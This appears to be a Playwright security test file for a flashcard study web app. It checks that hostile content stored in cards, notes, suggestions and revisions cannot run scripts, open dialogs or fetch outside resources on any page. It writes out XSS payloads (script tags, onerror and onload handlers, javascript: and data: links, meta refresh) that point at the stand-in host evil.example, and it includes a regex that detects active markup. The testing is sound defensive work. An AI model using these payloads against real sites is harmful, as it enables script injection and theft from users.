"""SECURITY.md 13: hostile content in a real browser, in every place that shows content. Nothing may run, open or be fetched."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from app.content.document import CardText
from app.db.base import new_guid
from app.db.models import CardRevision, Suggestion
from app.library.texts import put, render_text
from app.study import notes
from tests.browser.conftest import NewPage, enter
from tests.browser.portals import Portal
from tests.builders import LONG_AGO, PASSWORD, choose, make_card, make_deck, make_user
from tests.integration.study.people import viewer_of

PER_CARD = 150
AROUND = 3
"""Cards that are looked at in all the places around them: with formulas, with what is fetched, with payloads."""
WATCH = """
window.seen = [];
document.addEventListener('securitypolicyviolation', event =>
  window.seen.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
for (const name of ['alert', 'confirm', 'prompt', 'open', 'print'])
  window[name] = (...given) => { window.seen.push(`${name}(${given})`); };
"""
FORMULAS = (
    r"$\text{<script>alert(1)</script>}$ $\href{javascript:alert(1)}{x}$ "
    r"$$\mathrm{<img src=x onerror=alert(1)>}$$ $\style{background:url(//evil.example/x)}{x}$"
)
OUTSIDE = """
<script src="https://evil.example/x.js"></script><link rel="stylesheet" href="https://evil.example/x.css">
<img src="https://evil.example/x.png"><img src=x onerror="alert(1)"><iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>
<style>body { background: url(https://evil.example/x.png) }</style><p style="background:url(//evil.example/y)">x</p>
<svg onload="alert(1)"><a href="javascript:alert(1)"><text>x</text></a></svg><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><object data="https://evil.example/x"></object>
<video src="https://evil.example/x" autoplay onplay="alert(1)"></video><math href="javascript:alert(1)">x</math>
![x](https://evil.example/x.png) [x](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>)
"""


def _texts(corpora: Path) -> Iterator[str]:
    """All payloads, some in a text, so that one that swallows the rest does not shield it for long."""
    yield FORMULAS
    yield OUTSIDE
    lines = (corpora / "hostile" / "xss-payloads.txt").read_text("utf-8", "replace").replace("\0", "").splitlines()
    lines += [text.replace("\0", "") for text in json.loads((corpora / "hostile" / "blns.json").read_text("utf-8"))]
    lines += [case["input"] for case in json.loads((corpora / "hostile" / "bleach-data.json").read_text("utf-8"))]
    for at in range(0, len(lines), PER_CARD):
        yield "\n\n".join(lines[at : at + PER_CARD])


class Guard:
    """A page on which nothing may happen but what the portal does."""

    def __init__(self, page: Page, portal: Portal) -> None:
        self.page = page
        self.seen: list[str] = []
        self._host = urlsplit(portal.url).netloc
        page.add_init_script(WATCH)
        page.on("dialog", self._opened)
        page.on("popup", lambda popup: self.seen.append(f"popup {popup.url}"))
        page.on("request", lambda request: self._asked(request.url))

    def _opened(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _asked(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in ("data", "blob") and parts.netloc != self._host:
            self.seen.append(f"request {url[:200]}")

    def check(self, where: str) -> None:
        """Once the page has loaded and was painted, nothing must have been seen."""
        self.page.wait_for_load_state("load")
        self.page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
        seen = [*self.seen, *self.page.evaluate("window.seen ?? ['the page was left']")]
        assert not seen, (where, seen[:5])
        assert urlsplit(self.page.url).netloc == self._host, where
        acting = self.page.evaluate(ACTING)
        assert not acting, (where, acting[:5])


ACTING = """() => [...document.querySelectorAll('main *')].filter(node =>
  /^(script|iframe|object|embed|link|style|base|meta|svg:script)$/i.test(node.localName)
  || [...node.attributes].some(each => /^on/i.test(each.name)
     || (/^(href|src|action|formaction|xlink:href)$/i.test(each.name) && /^\\s*(javascript|vbscript|data):/i.test(each.value)))
).map(node => node.outerHTML.slice(0, 200))"""


@pytest.fixture(scope="module")
def hostile(portal: Portal, corpora: Path) -> dict[str, Any]:
    """A deck of hostile cards, each with a revision that said something else, and who studies, notes and administers."""
    with portal.session() as session:
        user = make_user(session, email=f"{new_guid()}@example.org", role="admin", new_per_day=999)
        deck = make_deck(session, slug=f"hostile-{new_guid()[:6]}", title=OUTSIDE[:150], description=OUTSIDE)
        cards = []
        for text in _texts(corpora):
            card = make_card(session, deck, question=f"What? {text[:3000]}", answer=text, section=(text[:80],))
            changed = CardText(
                card.question + " indeed", text.replace("<", "< ", 1) + " more", (text[:80],), ("x",), ()
            )
            put(card, changed, render_text(changed))
            card.version = 2
            session.add(
                CardRevision(
                    card_id=card.id,
                    number=2,
                    action="edited",
                    question=changed.question,
                    answer=changed.answer,
                    section=list(changed.section),
                    tags=["x"],
                    options=[],
                    author_id=user.id,
                    created_at=LONG_AGO,
                    note=text[:400],
                )
            )
            cards.append(card.guid)
            if len(cards) > AROUND:
                continue
            notes.save(session, viewer=viewer_of(user), card_id=card.id, version=0, text=text[:2000], now=LONG_AGO)
            whole = {"question": f"{text[:3000]}?", "answer": text[:9000]}
            for values in (whole, {}):
                session.add(
                    Suggestion(
                        card_id=card.id, user_id=user.id, version=2, remark=text[:900], sent_at=LONG_AGO, **values
                    )
                )
        choose(session, user, deck)
        return {"email": user.email, "slug": deck.slug, "cards": cards}


@pytest.mark.corpora
def test_nothing_of_hostile_content_acts_where_it_is_read(
    portal: Portal, new_page: NewPage, hostile: dict[str, Any]
) -> None:
    page = new_page()
    enter(page, hostile["email"], PASSWORD)
    guard = Guard(page, portal)
    slug = hostile["slug"]
    of_cards = [
        path.format(guid)
        for guid in hostile["cards"][:AROUND]
        for path in ("/cards/{}", "/cards/{}/note", "/cards/{}/suggest", "/edit/cards/{}/split", "/edit/cards/{}/join")
    ]
    for path in (
        "/",
        "/choose",
        f"/decks/{slug}",
        f"/read?deck={slug}",
        "/search?q=script",
        f"/edit/decks/{slug}",
        f"/edit/decks/{slug}/details",
        f"/edit/questions?deck={slug}",
        f"/edit/signals?deck={slug}",
        f"/edit/bulk?card={'&card='.join(hostile['cards'])}",
        "/edit/suggestions",
        "/edit/audit",
        "/edit",
        "/suggestions",
        *of_cards,
    ):
        page.goto(path)
        guard.check(path)


@pytest.mark.corpora
def test_nothing_of_hostile_content_acts_while_it_is_studied(
    portal: Portal, new_page: NewPage, hostile: dict[str, Any]
) -> None:
    page = new_page()
    enter(page, hostile["email"], PASSWORD)
    guard = Guard(page, portal)
    page.goto(f"/study?deck={hostile['slug']}")
    for _ in hostile["cards"]:
        guard.check("a question")
        page.keyboard.press("Space")
        page.locator("#answer").wait_for()
        guard.check("an answer")
        page.keyboard.press("4")
        expect(page.locator("#answer")).to_have_count(0)


@pytest.mark.corpora
def test_nothing_of_hostile_content_acts_where_it_is_edited(
    portal: Portal, new_page: NewPage, hostile: dict[str, Any], corpora: Path
) -> None:
    page = new_page()
    enter(page, hostile["email"], PASSWORD)
    guard = Guard(page, portal)
    for card in hostile["cards"]:
        page.goto(f"/edit/cards/{card}")
        guard.check("an editor, its preview and its revisions")
    page.goto(f"/edit/decks/{hostile['slug']}/document")
    guard.check("a document")
    page.goto("/edit/import")
    text = "\n\n".join(f"## What {n}?\n\n{text}" for n, text in enumerate(_texts(corpora)))
    page.set_input_files("#file", {"name": "hostile.md", "mimeType": "text/markdown", "buffer": text.encode()})
    page.get_by_role("button", name="Read and preview").click()
    page.wait_for_url("**/edit/import/*")
    guard.check("an import's preview")


def test_the_guard_sees_what_it_is_there_for(portal: Portal, browser: Browser) -> None:
    """A page that does act is noticed, so that silence means something."""
    with browser.new_context(base_url=portal.url) as context:
        page = context.new_page()
        guard = Guard(page, portal)
        page.goto("/help")
        page.evaluate(
            "document.querySelector('main').innerHTML = '<img src=\"https://evil.example/x.png\"><p onclick=\"x\">'"
        )
        with pytest.raises(AssertionError):
            guard.check("a page that acts")
